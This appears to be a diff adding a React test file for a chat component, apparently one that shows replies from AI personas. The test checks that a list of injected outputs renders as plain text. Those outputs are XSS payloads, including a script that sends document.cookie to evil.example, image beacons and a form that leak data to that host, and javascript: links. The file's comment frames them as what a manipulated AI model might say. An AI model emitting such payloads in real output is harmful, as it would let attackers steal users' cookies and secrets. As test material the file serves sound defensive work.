@@ -1,0 +1,68 @@
+// @vitest-environment happy-dom
+import { cleanup, render } from '@testing-library/react'
+import i18next from 'i18next'
+import { initReactI18next } from 'react-i18next'
+import { afterEach, beforeAll, expect, test } from 'vitest'
+import type { Professor } from '../contract.ts'
+import locale from '../locales/en.json' with { type: 'json' }
+import { ChatHistory } from './chat-history.tsx'
+
+const neo: Professor = {
+  id: 'neo',
+  name: 'Neo',
+  provider: 'openai',
+  character: '',
+  greeting: 'I am Neo.',
+  models: [],
+  has_stored_key: true,
+  held: null,
+}
+const show = (role: 'user' | 'assistant', content: string) =>
+  render(<ChatHistory professor={neo} isPending={false} turns={[{ role, content, timestamp: '2026-11-21T10:00:00Z', professor: 'neo' }]} />)
+
+beforeAll(async () => {
+  await i18next.use(initReactI18next).init({ lng: 'en', resources: { en: { professors: locale } }, interpolation: { escapeValue: false } })
+})
+afterEach(cleanup)
+
+/** What a model that was talked into it might say. */
+const injected = [
+  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
+  '<img src=x onerror="alert(1)">',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">click</a>',
+  '[click](javascript:alert(1))',
+  '[click](java&#10;script:alert(1))',
+  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[click](vbscript:msgbox)',
+  '[home](//evil.example/login)',
+  '![leak](https://evil.example/pixel.png?q=secret)',
+  '![leak][1]\n\n[1]: https://evil.example/pixel.png',
+  '<style>@import "https://evil.example/a.css"</style>',
+  '<form action="https://evil.example"><input name=key></form>',
+  '<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '```html\n<script>alert(1)</script>\n```',
+  '<details open ontoggle=alert(1)>',
+  'https://evil.example/<script>alert(1)</script>',
+]
+
+test.each(injected)('S36: %s stays text', (content) => {
+  for (const role of ['assistant', 'user'] as const) {
+    const { container } = show(role, content)
+    expect(container.querySelector('script, img, iframe, svg, style, form, input, link, base, math, details, object, embed')).toBeNull()
+    for (const element of container.querySelectorAll('*')) {
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on|^src|^srcdoc|^action|^style$/)
+        if (name === 'href') expect(value).toMatch(/^https:\/\/evil\.example\//)
+      }
+    }
+    cleanup()
+  }
+})
+
+test('before anything is asked the professor greets', () => {
+  const { container } = render(<ChatHistory professor={neo} isPending={false} turns={[]} />)
+  expect(container.textContent).toContain('I am Neo.')
+})
